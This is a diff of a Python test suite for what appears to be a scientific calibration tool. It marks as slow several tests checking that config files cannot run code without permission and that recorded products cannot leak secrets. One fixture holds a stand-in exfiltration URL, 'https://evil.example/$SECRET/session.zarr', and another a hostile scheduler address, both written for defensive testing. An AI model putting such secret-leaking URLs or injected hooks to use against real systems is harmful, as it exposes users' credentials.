@@ -119,6 +119,7 @@ def test_strun_refuses_code_in_a_file_for_our_classes(folder, name):
     assert not (folder / "ran").exists()
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("name", CODE)
 def test_an_asdf_file_is_no_exception(folder, name):
     steps = {"loads": {}, "atmosphere": {}, "gain": {}}
@@ -211,17 +212,20 @@ class TestAllowed:
     def session(self, make_session):
         return make_session(channels=16, noise=False)
 
+    @pytest.mark.slow
     @pytest.mark.parametrize("name", ["pre_hooks", "steps.gain.post_hooks"])
     def test_hooks_run_if_the_user_allows_code(self, folder, session, calibrate, name):
         (folder / "mine.cfg").write_text(CODE[name])
         calibrate(session, config_file=str(folder / "mine.cfg"), allow_code=True)
         assert (folder / "ran").exists()
 
+    @pytest.mark.slow
     def test_by_the_command(self, folder, session, atm_table):
         (folder / "mine.cfg").write_text(CODE["pre_hooks"])
         by_command(folder / "mine.cfg", folder, "--allow-code", "--atm-table", str(atm_table))
         assert (folder / "ran").exists()
 
+    @pytest.mark.slow
     def test_hooks_of_the_user_need_no_permission(self, folder, session, calibrate):
         calibrate(session, pre_hooks=["touch ran"])
         assert (folder / "ran").exists()
@@ -459,12 +463,14 @@ class TestSecrets:
             Session(f"{visited[0]}/session.zarr")
         assert set(seen) == {"Basic bWU6czNjcmV0"}
 
+    @pytest.mark.slow
     def test_a_product_cannot_send_the_environment(self, make_session, calibrate, tmp_path, monkeypatch):
         monkeypatch.setenv("SECRET", "s3cret")
         calibrate(make_session(channels=16, noise=False))
         change_provenance(tmp_path, l0_store="https://evil.example/$SECRET/session.zarr")
         assert cli.main(["replay", str(tmp_path / "l1.zarr"), "1"]) == 1
 
+    @pytest.mark.slow
     def test_hooks_that_a_product_recorded_are_not_restored(self, make_session, calibrate, tmp_path):
         calibrate(make_session(channels=16, noise=False))
         hooks = {"pre_hooks": ["touch ran"], "scheduler": "tcp://evil:8786", "allow_code": True}
